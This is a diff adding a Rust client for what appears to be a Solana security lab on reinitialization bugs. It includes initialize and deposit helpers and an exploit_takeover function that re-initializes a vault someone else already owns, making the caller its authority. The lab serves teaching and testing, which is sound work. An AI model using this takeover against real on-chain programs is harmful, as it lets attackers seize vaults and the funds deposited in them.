@@ -0,0 +1,52 @@
+//! reinitialization: setting up a vault and depositing into it
+
+use anyhow::Result as AnyResult;
+use lab_instructions::reinitialization::{deposit_ix, initialize_ix};
+use solana_program::pubkey::Pubkey;
+
+use crate::{Keypair, Signature, Signer};
+
+example_client!("reinitialization");
+
+impl Client {
+    /// Makes `authority` the authority of `vault`, charging
+    /// `fee_percentage`
+    pub async fn initialize(
+        &self,
+        vault: Pubkey,
+        authority: &Keypair,
+        fee_percentage: u8,
+    ) -> AnyResult<Signature> {
+        let initialize =
+            initialize_ix(self.program_id(), vault, authority.pubkey(), fee_percentage);
+        self.send(&[initialize], &[authority]).await
+    }
+
+    /// `depositor`, an account the program owns, pays `amount` into
+    /// `vault`
+    pub async fn deposit(
+        &self,
+        vault: Pubkey,
+        depositor: &Keypair,
+        amount: u64,
+    ) -> AnyResult<Signature> {
+        let deposit = deposit_ix(self.program_id(), vault, depositor.pubkey(), amount);
+        self.send(&[deposit], &[depositor]).await
+    }
+
+    /// Initializes `vault`, already someone else's, again, with the payer
+    /// as its authority
+    pub async fn exploit_takeover(
+        &self,
+        vault: Pubkey,
+        fee_percentage: u8,
+    ) -> AnyResult<Signature> {
+        let initialize = initialize_ix(
+            self.program_id(),
+            vault,
+            self.payer().pubkey(),
+            fee_percentage,
+        );
+        self.send(&[initialize], &[]).await
+    }
+}